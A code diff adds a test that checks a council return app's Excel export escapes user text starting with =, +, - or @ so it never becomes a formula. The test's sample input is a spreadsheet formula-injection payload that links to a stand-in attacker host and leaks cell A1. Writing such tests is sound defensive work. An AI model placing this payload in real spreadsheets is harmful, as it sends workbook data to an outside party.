@@ -169,3 +169,43 @@ def test_draft_figures_are_filled_in_and_submitted_figures_locked(
 
 def test_the_file_is_named_after_the_period_and_service(cycle, waste):
     assert workbook_filename(cycle, waste) == "return-Q2-2026-27-waste-and-recycling.xlsx"
+
+
+def test_text_that_a_spreadsheet_would_run_is_written_as_text_never_a_formula(
+    council, today, cycle, officer, recycling, missed_bins
+):
+    """Commentary like =HYPERLINK("http://evil.example/?leak="&A1, …) would send the
+    workbook's contents to whoever wrote it, once opened in Excel."""
+    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
+    waste = recycling.owner
+    waste.name = "=Waste and Recycling"
+    waste.save()
+    record_value(
+        indicator=recycling,
+        period=cycle.period,
+        entries={
+            "figure": Decimal("47.5"),
+            "commentary": hostile,
+            "reasons": "+44 7700 900123 rang in",
+            "actions": "-5 bins a week",
+            "not_available_reason": "@risk",
+        },
+        by=officer,
+    )
+
+    book = download(cycle, waste, council, today)
+
+    formulas = [
+        f"{sheet.title}!{c.coordinate}"
+        for sheet in book.worksheets
+        for row in sheet.iter_rows()
+        for c in row
+        if c.data_type == "f"
+    ]
+    assert formulas == []
+    sheet = book["Return"]
+    assert cell(sheet, 2, "Commentary").value == "'" + hostile
+    assert cell(sheet, 2, "Why").value == "'+44 7700 900123 rang in"
+    assert cell(sheet, 2, "Actions").value == "'-5 bins a week"
+    assert cell(sheet, 2, "No figure because").value == "'@risk"
+    assert book["Instructions"]["A1"].value.startswith("'=Waste and Recycling")
